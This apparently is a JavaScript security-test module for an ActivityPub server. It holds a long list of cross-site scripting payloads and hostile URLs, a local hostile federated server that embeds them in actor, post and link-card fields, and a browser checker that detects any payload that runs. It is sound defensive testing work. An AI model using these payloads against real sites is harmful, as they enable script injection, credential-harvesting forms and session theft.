// What a hostile stranger sends: markup that runs scripts, loads files or sends forms where a page prints it as it came; a server
// that says it in every property that is read; and what a page shows of it, were it to succeed.
import { createHash, createSign, generateKeyPairSync } from "node:crypto";
import { createServer } from "node:http";
import { PASSWORD } from "./people.mjs";

const CONTEXT = ["https://www.w3.org/ns/activitystreams", { toot: "http://joinmastodon.org/ns#", Emoji: "toot:Emoji", schema: "http://schema.org#", PropertyValue: "schema:PropertyValue", value: "schema:value" }];
/** Nothing may be asked of it. */
export const CANARY = "canary.example";

/**
 * Markup; `hit` is counted by the page. In the order of how they get out of where they stand: elements, attributes, texts of
 * other kinds, parsers that disagree (https://html.spec.whatwg.org/multipage/parsing.html), styles, addresses.
 */
export const VECTORS = [
  `<script>hit()</script>`,
  `<img src=x onerror=hit()>`,
  `<svg onload=hit()>`,
  `<svg><script>hit()</script></svg>`,
  `<svg><animate onbegin=hit() attributeName=x dur=1s>`,
  `<details open ontoggle=hit()>`,
  `<input autofocus onfocus=hit()>`,
  `<video><source onerror=hit()></video>`,
  `<body onload=hit()>`,
  `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  `<iframe src=javascript:parent.hit()></iframe>`,
  `<object data="data:text/html,<script>hit()</script>"></object>`,
  `<embed src=//${CANARY}/e>`,
  `<base href=//${CANARY}/>`,
  `<meta http-equiv=refresh content="0;url=//${CANARY}/m">`,
  `<link rel=stylesheet href=//${CANARY}/l>`,
  `<link rel=prefetch href=//${CANARY}/p>`,
  `<style>@import "//${CANARY}/i";*{background:url(//${CANARY}/b)}</style>`,
  `<p style="background:url(//${CANARY}/s)">x</p>`,
  `<form action=//${CANARY}/f><input name=password type=password><button>x</button></form>`,
  `</form><form action=//${CANARY}/g id=page-form>`,
  `<button form=page-form formaction=//${CANARY}/h>x</button>`,
  `"><img src=x onerror=hit()>`,
  `'><img src=x onerror=hit()>`,
  `" autofocus tabindex=1 onfocus=hit() x="`,
  `' onmouseover=hit() autofocus onfocus=hit() x='`,
  `x onerror=hit() onload=hit() `,
  `</title><script>hit()</script>`,
  `</textarea><script>hit()</script>`,
  `</style><script>hit()</script>`,
  `</script><script>hit()</script>`,
  `</option></select><img src=x onerror=hit()>`,
  `--><img src=x onerror=hit()><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">hit()</script><![CDATA[`,
  `<!--><img src=x onerror=hit()>-->`,
  `<![CDATA[><img src=x onerror=hit()>]]>`,
  `<?xml-stylesheet href="javascript:hit()"?><img src=x onerror=hit()>`,
  `<noscript><p title="</noscript><img src=x onerror=hit()>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>`,
  `<svg><style><img src=x onerror=hit()></style></svg>`,
  `<template><img src=x onerror=hit()></template>`,
  `<a href="javascript:hit()" autofocus>x</a>`,
  `<a href="jav&#x09;ascript:hit()">x</a>`,
  `<a href=" &#1;javascript:hit()">x</a>`,
  `<a href="data:text/html,<script>hit()</script>">x</a>`,
  `<a href="//${CANARY}/a" ping="//${CANARY}/ping" onclick=hit()>x</a>`,
  `<scr\u0000ipt>hit()</scr\u0000ipt>`,
  `\uff1cscript\uff1ehit()\uff1c/script\uff1e`,
  `&lt;script&gt;hit()&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=hit()&amp;gt;`,
  `\\u003cimg src=x onerror=hit()\\u003e`,
  `<plaintext>`,
  `<xmp><img src=x onerror=hit()></xmp>`,
  `<p id=main name=forms class="skip unseen"><img name=body src=//${CANARY}/c>`,
  `{{constructor.constructor('hit()')()}}\${hit()}`,
];

/** Where an address is expected. */
export const ADDRESSES = [
  "javascript:hit()",
  "JaVaScRiPt:hit()",
  "\u0001javascript:hit()",
  "java\nscript:hit()",
  "data:text/html,<script>hit()</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
  "vbscript:hit()",
  `//${CANARY}/x`,
  `https://${CANARY}/"onerror="hit()`,
  `https://${CANARY}/'onerror='hit()`,
  `https://${CANARY}/><script>hit()</script>`,
  `https://user:pass@${CANARY}/`,
  "blob:https://x.example/1",
];

/**
 * A server whose actor `v0`, `v1` and so on is made of one vector each, and has a note, a poll and a note with files.
 * `saying(name, vector)` is what a property gets: the vector with the property's name, by which it is found again.
 */
export function startHostile(port, saying) {
  const { privateKey, publicKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
  const publicKeyPem = publicKey.export({ type: "spki", format: "pem" });
  const origin = `http://localhost:${port}`;
  const address = (n) => ADDRESSES[n % ADDRESSES.length];
  const emoji = (n) => [
    { type: "Emoji", id: `${origin}/e${n}`, name: `:e${n}:`, icon: { type: "Image", mediaType: "image/png", url: `${origin}/"onerror=hit()x="${n}.png` } },
    { type: "Emoji", id: `${origin}/f${n}`, name: `:f${n}:`, icon: { type: "Image", mediaType: VECTORS[n], url: address(n) } },
    { type: "Emoji", id: `${origin}/g${n}`, name: `:${VECTORS[n]}:`, icon: { type: "Image", url: `${origin}/e.png` } },
  ];
  const actor = (n) => {
    const id = `${origin}/v${n}`;
    const say = (name) => saying(name, VECTORS[n]);
    return {
      "@context": CONTEXT, id, type: "Person", preferredUsername: `v${n}`, discoverable: true, indexable: true,
      inbox: `${id}/inbox`, outbox: `${id}/outbox`, followers: `${id}/followers`, following: `${id}/following`,
      name: `:e${n}: ${say("name")}`, summary: `<p>:f${n}: ${say("summary")}</p>`, url: n % 2 ? address(n) : `${origin}/@v${n}"onclick="hit()`,
      icon: { type: "Image", url: n % 2 ? address(n) : `${origin}/i"onerror="hit().png`, summary: say("icon") },
      image: { type: "Image", url: n % 2 ? `${origin}/h'onerror='hit().png` : address(n), summary: say("image") },
      attachment: [
        { type: "PropertyValue", name: say("field_name"), value: say("field_value") },
        { type: "PropertyValue", name: "link", value: `<a href="${address(n).replaceAll('"', "&quot;")}" rel="me">${say("field_link")}</a>` },
      ],
      tag: [...emoji(n), { type: "Hashtag", name: `#${VECTORS[n]}`, href: address(n) }],
      movedTo: n % 5 === 4 ? address(n) : undefined, alsoKnownAs: [address(n)],
      publicKey: { id: `${id}#main-key`, owner: id, publicKeyPem },
    };
  };
  const note = (n, kind, sori) => {
    const id = `${origin}/v${n}/${kind}`;
    const say = (name) => saying(name, VECTORS[n]);
    const alice = `${sori}/users/alice`;
    const poll = { type: "Question", endTime: "2099-01-01T00:00:00Z", votersCount: 3, oneOf: [1, 2].map((x) => ({ type: "Note", name: `${x} ${say("option")}`, replies: { type: "Collection", totalItems: x } })) };
    const files = {
      sensitive: n % 2 === 1,
      attachment: ["image/png", "video/mp4", "audio/mpeg", "application/x"].map((mediaType, at) => ({
        type: "Document", mediaType, url: n % 2 || at === 3 ? `${origin}/f"onerror="hit()${at}.png` : address(n + at), name: say("alt"), blurhash: VECTORS[n].slice(0, 100), width: 8, height: 6, focalPoint: [VECTORS[n], 0],
        icon: { type: "Image", url: address(n + at) },
      })),
    };
    return {
      id, type: "Note", attributedTo: `${origin}/v${n}`, published: new Date().toISOString(), url: n % 2 ? `${id}"onclick="hit()` : address(n),
      summary: kind === "note" ? null : `:e${n}: ${say("warning")}`, content: `<p>:e${n}: ${say("content")} #fern</p>`, contentMap: { [kind === "note" ? VECTORS[n] : "en"]: `<p>:e${n}: ${say("content")} #fern</p>` },
      ...(kind === "direct" ? { to: [alice] } : { to: ["https://www.w3.org/ns/activitystreams#Public"], cc: [`${origin}/v${n}/followers`, alice] }),
      tag: [...emoji(n), { type: "Mention", href: alice, name: `@alice${VECTORS[n]}` }, { type: "Hashtag", name: `#${VECTORS[n]}`, href: address(n) }, { type: "Hashtag", name: "#fern", href: address(n) }],
      generator: { type: "Application", name: say("generator"), url: address(n) },
      ...(kind === "poll" ? poll : {}), ...(kind === "files" ? files : {}),
    };
  };
  const server = createServer((request, response) => {
    request.resume();
    const json = (value) => response.writeHead(200, { "content-type": "application/activity+json" }).end(JSON.stringify(value));
    const url = new URL(request.url, origin);
    const at = /^\/v(\d+)(?:\/(\w+))?$/.exec(url.pathname);
    const subject = /^acct:v(\d+)@/.exec(url.searchParams.get("resource") ?? "");
    if (request.method === "POST") return response.writeHead(202).end();
    if (url.pathname === "/.well-known/webfinger" && subject) {
      return response.writeHead(200, { "content-type": "application/jrd+json" }).end(JSON.stringify({
        subject: `acct:v${subject[1]}@localhost:${port}`, links: [{ rel: "self", type: "application/activity+json", href: `${origin}/v${subject[1]}` }],
      }));
    }
    // The page that a card is made of.
    if (url.pathname === "/page") {
      const quoted = (text) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
      const n = Number(url.searchParams.get("n"));
      const meta = { "og:title": saying("card_title", VECTORS[n]), "og:description": saying("card_about", VECTORS[n]), "og:site_name": saying("card_site", VECTORS[n]), "og:image": address(n), "og:image:alt": saying("card_alt", VECTORS[n]), "og:locale": VECTORS[n] };
      return response.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(`<!doctype html><head>${Object.entries(meta).map(([name, value]) => `<meta property="${name}" content="${quoted(value)}">`).join("")}</head>`);
    }
    if (at && Number(at[1]) < VECTORS.length) {
      if (!at[2]) return json(actor(Number(at[1])));
      if (["note", "poll", "files"].includes(at[2])) return json({ "@context": CONTEXT, ...note(Number(at[1]), at[2], server.sori) });
    }
    response.writeHead(404).end();
  }).listen(port, "127.0.0.1");
  return {
    origin,
    note: (n, kind, sori) => {
      server.sori = sori;
      return note(n, kind, sori);
    },
    /** Sends an activity of the actor `n`, signed (https://swicg.github.io/activitypub-http-signature/), to an instance. */
    async send(sori, n, activity) {
      const { host } = new URL(sori);
      const body = JSON.stringify({ "@context": CONTEXT, actor: `${origin}/v${n}`, ...activity });
      const date = new Date().toUTCString();
      const digest = `SHA-256=${createHash("sha256").update(body).digest("base64")}`;
      const signature = createSign("sha256").update(`(request-target): post /inbox\nhost: ${host}\ndate: ${date}\ndigest: ${digest}`).sign(privateKey, "base64");
      const headers = { date, digest, host, "content-type": "application/activity+json", signature: `keyId="${origin}/v${n}#main-key",algorithm="rsa-sha256",headers="(request-target) host date digest",signature="${signature}"` };
      const answer = await fetch(`${sori}/inbox`, { method: "POST", body, headers });
      await answer.arrayBuffer();
      return answer.status;
    },
    stop() {
      server.closeAllConnections();
      server.close();
    },
  };
}

/** Counts what vectors do, in every frame of every page of a context; answers what was counted. */
export async function watch(context, origin) {
  const seen = { hits: [], requests: [], refused: [] };
  await context.exposeBinding("hitSeen", (_, what) => seen.hits.push(what));
  await context.addInitScript(() => {
    globalThis.hit = () => globalThis.hitSeen("a script ran");
    addEventListener("securitypolicyviolation", (event) => globalThis.hitSeen(`the policy refused ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
  });
  context.on("dialog", (dialog) => {
    seen.hits.push(`a dialog: ${dialog.message()}`);
    dialog.dismiss().catch(() => {});
  });
  context.on("request", (request) => {
    const url = request.url();
    if (!url.startsWith(`${origin}/`) && !/^(data:image\/|about:blank)/.test(url)) seen.requests.push(url);
  });
  return seen;
}

/** Runs in the page: what of its document no page of ours has. */
export function foreign(origin) {
  const found = [];
  const isOurs = (url) => URL.canParse(url, location.href) && new URL(url, location.href).origin === origin;
  const told = (element) => element.outerHTML.slice(0, 200);
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    // Links in a frame on another site open beside it.
    if (name === "base" && location.pathname.endsWith("/embed") && !element.hasAttribute("href")) continue;
    if (["base", "object", "embed", "iframe", "frame", "frameset", "applet", "style", "template", "plaintext", "xmp", "math", "animate", "marquee", "portal"].includes(name)) found.push(told(element));
    if (name === "script" && !(isOurs(element.getAttribute("src") ?? "http://inline/") && element.textContent === "") && !["application/json", "application/ld+json"].includes(element.type)) found.push(told(element));
    // Ours stands on the page for archives.
    if (name === "noscript" && location.pathname !== "/settings/archive") found.push(told(element));
    if (name === "meta" && element.httpEquiv) found.push(told(element));
    if (name === "link" && !["stylesheet", "icon", "manifest", "alternate", "canonical", "modulepreload", "apple-touch-icon", "author", "me"].includes(element.rel)) found.push(told(element));
    if (name === "link" && element.rel !== "alternate" && element.rel !== "me" && !isOurs(element.href)) found.push(told(element));
    for (const { name: attribute, value } of element.attributes) {
      if (/^on/i.test(attribute) || ["style", "srcdoc", "ping", "background", "is"].includes(attribute)) found.push(told(element));
      if (["autofocus"].includes(attribute) && element.closest(".status, .who, .notice")) found.push(told(element));
      if (attribute === "tabindex" && Number(value) > 0) found.push(told(element));
      if (["href", "src", "action", "formaction", "data", "poster", "cite", "xlink:href"].includes(attribute)) {
        const url = URL.canParse(value, location.href) ? new URL(value, location.href) : undefined;
        if (!url || !["http:", "https:", "mailto:"].includes(url.protocol)) if (!/^data:image\/(png|jpeg|gif|webp)/.test(value)) found.push(told(element));
        if (["src", "action", "formaction", "data", "poster"].includes(attribute) && url && url.protocol !== "data:" && url.origin !== origin) found.push(told(element));
      }
    }
    if (name === "form" && !(element.method === "get" || element.querySelector("input[name=form]") || element.action.endsWith("/sign_in") || element.action.endsWith("/sign_out") || element.action.endsWith("/interact") || element.action.endsWith("/authorize"))) found.push(`no token: ${told(element)}`);
    // What people wrote holds neither forms nor fields.
    if (["form", "input", "button", "select", "textarea"].includes(name) && element.closest(".text, .name, .handle, dd, blockquote .text")) found.push(told(element));
  }
  if (document.querySelectorAll("main").length !== 1 || document.querySelectorAll("#main").length !== 1) found.push("more than one main");
  return [...new Set(found)];
}

/** Many in one. */
export const ALL = `"><img src=x onerror=hit()>'><svg onload=hit()></title></textarea></option></select></script><script>hit()</script><base href=//${CANARY}/>`;

/** What a property gets: it is found again by its name. */
export const saying = (name, vector) => `~${name}~ ${vector}`;

/** Looks at pages of an instance whose owner is alice. `told`: the properties that were seen on them. */
export function inspector(sori, chromium) {
  const told = new Set();
  /** A context whose reader is signed in, or nobody; `bypassCSP`: without our policy. */
  async function reader(bypassCSP, isSignedIn = true) {
    const context = await chromium.newContext({ bypassCSP, viewport: { width: 1280, height: 1600 }, locale: "en" });
    const seen = await watch(context, sori.origin);
    const page = await context.newPage();
    if (isSignedIn) {
      await page.goto(`${sori.origin}/sign_in`);
      await page.fill("[autocomplete^=username]", "alice");
      await page.fill("[type=password]", PASSWORD);
      await page.click("main button[type=submit]");
    }
    return { context, page, seen };
  }
  /** What is wrong with the page that is open. */
  async function wrong(page, seen, address) {
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0))));
    for (const [, name] of (await page.content()).matchAll(/~(\w+)~/g)) told.add(name);
    const found = [...(await page.evaluate(foreign, sori.origin)), ...seen.hits, ...seen.requests.map((url) => `asked ${url}`)];
    seen.hits.length = seen.requests.length = 0;
    return found.map((what) => `${address}: ${what}`);
  }
  /** Opens pages, some at a time; answers what is wrong with them. */
  async function look(addresses, bypassCSP, isSignedIn) {
    const faults = [];
    const left = [...addresses];
    // What is counted belongs to a context.
    await Promise.all([1, 2, 3].slice(0, addresses.length).map(async () => {
      const { context, page, seen } = await reader(bypassCSP, isSignedIn);
      while (left.length) {
        const address = left.shift();
        const answer = await page.goto(sori.origin + address, { waitUntil: "load" });
        if (answer.status() >= 500) faults.push(`${address}: ${answer.status()}`);
        faults.push(...(await wrong(page, seen, address)));
      }
      await context.close();
    }));
    return faults;
  }
  /** A list and its older pages. */
  async function pages(address) {
    const { context, page } = await reader(false);
    const all = [];
    for (let next = address; next && all.length < 12; ) {
      all.push(next);
      await page.goto(sori.origin + next);
      next = await page.locator("a[rel=next]").evaluateAll(([link]) => link && link.pathname + link.search);
    }
    await context.close();
    return all;
  }
  return { told, reader, wrong, look, pages };
}

/** Makes alice, the owner; answers her API and its token. */
export async function owner(sori, client) {
  const made = await fetch(`${sori.origin}/_dev/account`, {
    method: "POST", headers: { "content-type": "application/json", "x-setup-code": sori.setupCode },
    body: JSON.stringify({ username: "alice", admin: true, password: PASSWORD }),
  });
  const { token } = await made.json();
  const api = client(sori.origin, token);
  return { api, token, alice: await api("GET", "/api/v1/accounts/verify_credentials") };
}
